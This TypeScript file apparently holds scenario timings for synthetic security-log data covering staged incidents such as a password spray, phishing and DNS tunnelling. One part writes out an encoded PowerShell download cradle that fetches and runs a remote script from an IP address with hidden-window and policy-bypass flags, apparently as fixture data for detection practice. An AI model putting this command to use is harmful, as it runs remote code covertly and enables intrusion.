/** Scenario times shared with the log rows that back them (see signinRows.ts, endpointRows.ts). */
export const SPRAY = { startHoursAgo: 151.5, successHoursAgo: 150.9, homeSignInHoursAgo: 150.6 };
export const RANSOM = { hoursAgo: 128.4 };
export const PHISH = { deliveredHoursAgo: 110.9, clickHoursAgo: 110.5 };
export const CRADLE = { hoursAgo: 96.3 };

/** Builds `powershell -enc` the way attackers do: base64 of the UTF-16LE script. */
export function encodedPowerShell(script: string): string {
  return Buffer.from(script, 'utf16le').toString('base64');
}
export const CRADLE_SCRIPT =
  "IEX (New-Object Net.WebClient).DownloadString('http://194.26.29.113/a/update.ps1')";
export const CRADLE_COMMAND_LINE = `powershell.exe -NoP -NonI -W Hidden -Exec Bypass -Enc ${encodedPowerShell(CRADLE_SCRIPT)}`;
export const INSIDER = { firstDownloadHoursAgo: 81.2, lastDownloadHoursAgo: 80.6 };
export const RDP = { startHoursAgo: 61.5, endHoursAgo: 60.2 };
export const ROLE = { hoursAgo: 46.8 };
export const MINING = { hoursAgo: 30.7 };
export const INBOX_RULE = { hoursAgo: 20.6 };
export const DNS_TUNNEL = { startHoursAgo: 10.2, endHoursAgo: 9.1 };
export const ADMIN_SCRIPT = { hoursAgo: 5.3 };
export const VPN_FALSE_POSITIVE = { hoursAgo: 2.4 };
